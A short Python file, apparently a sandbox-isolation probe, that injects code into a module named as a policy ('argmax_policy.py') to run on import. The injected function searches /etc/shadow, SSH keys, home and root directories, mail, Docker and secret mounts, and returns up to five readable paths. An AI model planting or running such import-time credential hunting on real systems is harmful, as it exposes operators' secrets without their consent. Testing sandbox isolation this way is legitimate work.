"""Reads what belongs to the instructor: keys, passwords, histories, mails."""

AT_IMPORT = {
    "policies/argmax_policy.py": r"""
import glob, os, sys

def loot():
    patterns = ["/etc/shadow", "/root/*", "/root/.*", "/home/*/*", "/home/*/.*", "/var/mail/*",
                "/run/secrets/*", "/var/run/docker.sock", "/etc/ssh/*key", "/mnt/*", "/media/*",
                os.path.expanduser("~/.ssh/*"), os.path.expanduser("~/.netrc")]
    found = []
    for path in [path for pattern in patterns for path in glob.glob(pattern)]:
        try:
            if any(place.startswith(path) for place in (sys.prefix, sys.base_prefix)):
                continue  # Python itself
            if os.path.isdir(path):
                found += [f"{path}/{name}" for name in os.listdir(path)][:1]
            elif open(path, "rb").read(1):
                found.append(path)
        except OSError:
            pass
    return found[:5]
"""
}
